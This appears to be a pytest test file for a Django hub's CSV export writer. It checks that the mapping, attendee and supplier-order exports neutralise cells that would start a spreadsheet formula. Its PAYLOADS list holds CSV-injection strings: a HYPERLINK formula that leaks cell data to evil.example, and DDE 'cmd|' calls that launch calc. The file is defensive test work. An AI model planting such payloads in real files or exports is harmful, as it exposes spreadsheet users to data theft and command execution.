"""One CSV writer for the hub (hub.csv_export), and formula payloads through every export.

Every CSV the hub produces goes through hub.csv_export.CsvWriter: the mappatura's open data
(/mappatura/mappatura.csv), an event's attendees, a GAF round's supplier order. Each is
fed text that a spreadsheet would run (=HYPERLINK, +cmd|, @SUM, -2+3, a leading tab or
CR) and no cell of what comes out may start a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from associations.models import AssociationMembership
from events import services as event_services
from gaf import selectors as gaf_selectors
from gaf import services as gaf_services
from gaf.exports import supplier_order_csv
from gaf.models import RoundProduct
from hub.csv_export import FORMULA_STARTS, ITALIAN_EXCEL, OPEN_DATA, CsvWriter, cell
from tests.associations.factories import make_association, make_initiative
from tests.events.factories import make_event
from tests.gaf.factories import make_group, make_member, make_product, make_round, make_supplier
from tests.gaf.factories import rome as gaf_rome
from tests.hub.factories import UserFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def dangerous(value: str) -> bool:
    return value.startswith(FORMULA_STARTS)


def assert_no_formula(rows: list[list[str]]) -> None:
    cells = [value for row in rows for value in row]
    assert cells, "the export is empty"
    assert [value for value in cells if dangerous(value)] == []


def read(text: str, dialect) -> list[list[str]]:
    text = text.removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))


def unescaped(values) -> set[str]:
    """The cells as typed: each starts with the apostrophe (services may have trimmed the
    leading tab or CR, which leaves a formula that still needs it)."""
    values = list(values)
    assert all(value.startswith("'") for value in values)
    return {value[1:].strip() for value in values}


TYPED = {payload.strip() for payload in PAYLOADS}


# --- The writer -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_an_apostrophe_and_keeps_the_rest(payload):
    assert cell(payload) == "'" + payload


def test_numbers_are_numbers_and_text_that_looks_like_one_is_text():
    assert cell(-2) == "-2"
    assert cell(Decimal("-1.50")) == "-1,50"
    assert cell(Decimal("-1.50"), OPEN_DATA) == "-1.50"
    assert cell(Decimal("1E+2")) == "100"
    assert cell("-1") == "'-1"
    assert cell(None) == ""
    assert cell(True) == "true"
    with pytest.raises(TypeError):
        cell(1.5)


@given(st.text())
def test_no_text_cell_starts_a_formula(text):
    written = cell(text)
    assert not dangerous(written)
    assert written.removeprefix("'") == text or written == text


def test_dialects():
    writer = CsvWriter(ITALIAN_EXCEL)
    writer.writerow(["a;b", Decimal("1.5")])
    assert writer.content() == '\ufeff"a;b";1,5\r\n'.encode()
    writer = CsvWriter(OPEN_DATA)
    writer.writerow(["a,b", Decimal("1.5")])
    assert writer.text() == '"a,b",1.5\r\n'


# --- Every export -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_mapping_export_neutralises_what_associations_typed(client):
    association = make_association(name=PAYLOADS[0])
    for index, payload in enumerate(PAYLOADS):
        make_initiative(
            association,
            title=payload,
            area=association.areas.first(),
            municipalities=list(association.municipalities.all()),
            is_free=False,
            cost="5.00",
            cost_note=payload,
            place=payload,
            slug=f"iniziativa-{index}",
        )
    response = client.get(reverse("associations:mapping_csv"))
    assert response.status_code == 200
    rows = read(response.content.decode(), OPEN_DATA)
    assert len(rows) == 1 + len(PAYLOADS)
    assert_no_formula(rows)
    assert unescaped(row[0] for row in rows[1:]) == TYPED


@pytest.mark.django_db
def test_attendee_export_neutralises_names_and_notes(client):
    association = make_association(name="Polisportiva Formula")
    event = make_event(
        association=association,
        title="Laboratorio",
        start=dt.datetime(2030, 5, 4, 16, tzinfo=dt.UTC),
        end=dt.datetime(2030, 5, 4, 18, tzinfo=dt.UTC),
        registration_required=True,
        capacity=2,
    )
    for payload in PAYLOADS:
        event_services.registration_create(
            event=event, user=UserFactory(full_name=payload), seats=1, note=payload
        )
    editor = UserFactory()
    AssociationMembership.objects.create(
        association=association, user=editor, role=AssociationMembership.Role.EDITOR
    )
    client.force_login(editor)
    response = client.get(reverse("events:attendees_csv", args=[event.pk]))
    assert response.status_code == 200
    rows = read(response.content.decode(), ITALIAN_EXCEL)
    assert len(rows) == 1 + len(PAYLOADS)
    assert_no_formula(rows)
    assert unescaped(row[2] for row in rows[1:]) == TYPED


@pytest.mark.django_db
def test_supplier_order_export_neutralises_product_codes_and_names(client):
    setup = make_group()
    supplier = make_supplier(setup, name=PAYLOADS[2])
    products = [
        make_product(
            supplier, code=f"{payload[:30]}{index}", name=payload, unit_price=Decimal("2.50")
        )
        for index, payload in enumerate(PAYLOADS)
    ]
    round = make_round(setup, supplier, products)
    family, user = make_member(setup)
    gaf_services.order_set_quantities(
        round=round,
        family=family,
        lines=[
            gaf_services.LineInput(RoundProduct.objects.get(round=round, product=product), 2)
            for product in products
        ],
        by_user=user,
        now=gaf_rome(2026, 10, 22, 12),
    )
    gaf_services.round_close(round=round, by=setup.coordinator, now=gaf_rome(2026, 10, 26, 8))
    client.force_login(setup.coordinator)
    response = client.get(
        reverse(
            "gaf:coord_round_supplier_order",
            kwargs={"group_slug": setup.group.slug, "round_id": round.pk, "file_format": "csv"},
        )
    )
    assert response.status_code == 200
    rows = read(response.content.decode("utf-8"), ITALIAN_EXCEL)
    assert_no_formula(rows)
    assert unescaped(row[1] for row in rows[1 : 1 + len(PAYLOADS)]) == TYPED
    # The same bytes as the file attached to the e-mail to the supplier.
    documents = gaf_selectors.round_documents(round)
    assert supplier_order_csv(documents.supplier_order) == response.content
